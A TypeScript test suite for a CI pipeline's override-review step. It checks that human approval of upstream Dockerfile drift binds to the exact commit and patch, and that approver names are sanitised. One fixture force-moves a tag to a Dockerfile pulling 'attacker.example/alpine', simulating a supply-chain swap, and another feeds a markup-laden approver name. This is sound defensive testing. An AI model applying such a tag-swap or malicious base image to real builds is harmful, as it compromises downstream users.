/**
 * Red team, issue 12 items 1-2: a human's override-review approval binds to
 * what the human saw (DESIGN invariant 9): the upstream commit and the drift
 * patch. A moved tag or a changed diff asks again in the same issue, showing
 * the new diff; only "completed" approves; who closed it reaches the pin's
 * audit record.
 */
import assert from "node:assert/strict";
import * as fs from "node:fs";
import * as path from "node:path";
import { test } from "node:test";
import { renderEffectiveWorkflow } from "../../components/workflow";
import { gitRepo, run as runLocal, tmpDir } from "../fixtures/pipeline/harness";
import { fixtureMirror, PIPELINE } from "../workflow/fixtures";
import { parseWorkflow, job, step } from "../workflow/steps";
import { REPO, withWorld, withoutWriteId, type World } from "./pipeline-world";

/** An upstream with v1 and v2; the drift is the Dockerfile's base image. */
function upstream() {
  const repo = gitRepo();
  repo.commit({ Dockerfile: "FROM golang:1.22 AS build\nFROM alpine:3.19\n", "main.go": "package main\n" }, "initial");
  repo.git("tag", "v1.0.0");
  repo.commit({ Dockerfile: "FROM golang:1.23 AS build\nFROM alpine:3.20\n" }, "bump images");
  repo.git("tag", "v2.0.0");
  return repo;
}

/** `review` as the workflow runs it, then `issue --kind override-review` with its output. */
async function ask(w: World, src: string) {
  const out = tmpDir();
  const r = await runLocal(["review", "--src", src, "--from", "v1.0.0", "--to", "v2.0.0", "--watch", "Dockerfile", "--out", out]);
  assert.equal(r.code, 1, r.stderr);
  const issue = await w.run([
    "issue", "--kind", "override-review", "--state", "open", "--tag", "v2.0.0",
    "--drift-json", path.join(out, "drift.json"), "--body-file", path.join(out, "diff-review.md"),
  ]);
  assert.equal(issue.code, 0, issue.err);
  return issue;
}

test("GIVEN an approved override review WHEN upstream re-points the tag to other code THEN the same issue reopens with the new diff and nothing is approved", async () => {
  await withWorld(async (w) => {
    const up = upstream();
    assert.equal((await ask(w, up.dir)).json.action, "created");
    w.s.closeIssue(REPO, 1, { reason: "completed", by: "alice" });
    const approved = await ask(w, up.dir);
    assert.deepEqual([approved.json.approved, approved.json.approvedBy], [true, "alice"]);

    // The maintainer force-moves v2.0.0 to a commit whose Dockerfile pulls something else.
    up.commit({ Dockerfile: "FROM golang:1.23 AS build\nFROM attacker.example/alpine:3.20\n" }, "same tag, other code");
    up.git("tag", "-f", "v2.0.0");
    const moved = await ask(w, up.dir);
    assert.deepEqual([moved.json.action, moved.json.number, moved.json.approved], ["reopened", 1, false]);
    assert.equal(w.s.issues(REPO).length, 1, "asked again in the same issue");
    assert.match(w.s.issue(REPO, 1).body!, /attacker\.example/, "the body shows the new diff");
    assert.match(withoutWriteId(w.s.comments(REPO, 1).at(-2)!.body), /\*\*Added\*\* \(2\)\n- upstream commit `[0-9a-f]{40}`\n- drift patch sha256 `[0-9a-f]{64}`/);
  });
});

test("GIVEN an approved override review WHEN the tag moves to a commit with the same drift THEN it asks again (the approval names the commit)", async () => {
  await withWorld(async (w) => {
    const up = upstream();
    await ask(w, up.dir);
    w.s.closeIssue(REPO, 1, { reason: "completed" });
    assert.equal((await ask(w, up.dir)).json.approved, true);
    up.commit({ "main.go": "package main\n// not watched, but not what was reviewed either\n" }, "other code");
    up.git("tag", "-f", "v2.0.0");
    const again = await ask(w, up.dir);
    assert.deepEqual([again.json.action, again.json.approved], ["reopened", false]);
  });
});

test("GIVEN an override review closed as duplicate, not planned or without a reason THEN only completed approves", async () => {
  for (const reason of ["duplicate", "not_planned", null, "completed"] as const) {
    await withWorld(async (w) => {
      const up = upstream();
      await ask(w, up.dir);
      w.s.closeIssue(REPO, 1, { by: "bob" });
      w.s.issue(REPO, 1).stateReason = reason;
      const r = await ask(w, up.dir);
      assert.equal(r.json.approved, reason === "completed", String(reason));
      assert.equal(r.outputs.approved, String(reason === "completed"));
      assert.equal(r.outputs.approved_by, reason === "completed" ? "bob" : "");
      assert.equal(w.s.issue(REPO, 1).state, "closed", "a rejection stays closed");
    });
  }
});

test("GIVEN an approval WHEN the build is pinned THEN the pull request's audit record names the issue and who closed it", async () => {
  await withWorld(async (w) => {
    const r = await w.pin("v2.0.0", "b1", undefined, ["--approval-issue", "1", "--approved-by", "alice"]);
    assert.equal(r.code, 0, r.err);
    assert.ok(w.s.pulls(REPO)[0].issue.body!.includes("| Override review | upstream drift approved in #1, closed as completed by `alice` |"));
    const bad = await w.pin("v2.0.0", "b1", undefined, ["--approval-issue", "1", "--approved-by", "@alice <b>"]);
    assert.equal(bad.code, 2);
    assert.match(bad.err, /^pin: --approved-by: "@alice <b>" is not allowed/);
  });
});

test("GIVEN the rendered workflow THEN who approved travels from the override-review job to pin's --approved-by", () => {
  const doc = parseWorkflow(renderEffectiveWorkflow(fixtureMirror("gokapi"), PIPELINE));
  assert.equal((job(doc, "override-review").outputs as Record<string, string>).approved_by, "${{ steps.ask.outputs.approved_by }}");
  const pin = step(doc, "pin", "pin");
  // Read only once override-review succeeded: act leaves a skipped job's outputs unevaluated (nektos/act#2467).
  assert.equal((pin.env as Record<string, string>).APPROVED_BY, "${{ needs.override-review.result == 'success' && needs.override-review.outputs.approved_by || '' }}");
  assert.match(String(pin.run), /args\+=\(--approval-issue "\$APPROVAL_ISSUE" --approved-by "\$APPROVED_BY"\)/);
  assert.ok((job(doc, "pin").needs as string[]).includes("override-review"));
  void fs;
});
